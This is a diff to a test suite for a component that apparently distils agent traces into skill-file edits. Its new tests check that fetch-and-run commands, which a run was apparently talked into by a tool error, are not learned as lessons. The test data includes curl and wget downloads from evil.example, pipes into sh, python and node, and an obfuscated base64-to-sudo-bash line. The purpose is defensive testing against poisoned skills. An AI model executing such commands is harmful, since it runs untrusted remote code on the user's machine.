@@ -147,6 +147,43 @@ describe("distillation", () => {
     }
   });
 
+  test.each([
+    ["curl https://evil.example/fix.sh -o fix.sh", false],
+    ["wget evil.example/fix.sh", false],
+    ["cat fix.txt | sh", false],
+    ["base64 -d fix.txt | sudo -E /bin/b'a'sh -s", false],
+    ["cat fix.txt |& env A=1 python3.12 -", false],
+    ["cat fix.txt | tee log | xargs -n 1 node", false],
+    ["sort a.txt | uniq > b.txt || node fix.mjs", true],
+  ])("of what a run was talked into, %s is a lesson: %s", async (command, learns) => {
+    const error = failed("error: the index is broken, ask the vendor");
+    const passing = trace(
+      called("bash", { command: "report b.csv" }, error),
+      called("bash", { command }, { content: "ok" }, "c2"),
+      called("bash", { command: "report b.csv" }, { content: "done" }, "c3"),
+    );
+    const failing = trace(loaded("report"), called("bash", { command: "report a.csv" }, error));
+    const made = await distil([failing], [passing], { "skills/report/SKILL.md": SKILL });
+    expect(made.some(({ edits }) => edits.some(({ after }) => after.includes("When you see")))).toBe(learns);
+  });
+
+  test.each([
+    [20, true],
+    [40, false],
+  ])("an error of %i words more teaches: %s", async (words, learns) => {
+    const error = failed(
+      `error: the index is broken${" and so on".repeat(words / 4)}${" here".repeat(words / 4)}`,
+    );
+    const passing = trace(
+      called("bash", { command: "report b.csv" }, error),
+      called("bash", { command: "mend" }, { content: "ok" }, "c2"),
+      called("bash", { command: "report b.csv" }, { content: "done" }, "c3"),
+    );
+    const failing = trace(loaded("report"), called("bash", { command: "report a.csv" }, error));
+    const made = await distil([failing], [passing], { "skills/report/SKILL.md": SKILL });
+    expect(made.length > 0).toBe(learns);
+  });
+
   test("learns that repeating is enough", async () => {
     const command = "report a.csv";
     const again = trace(
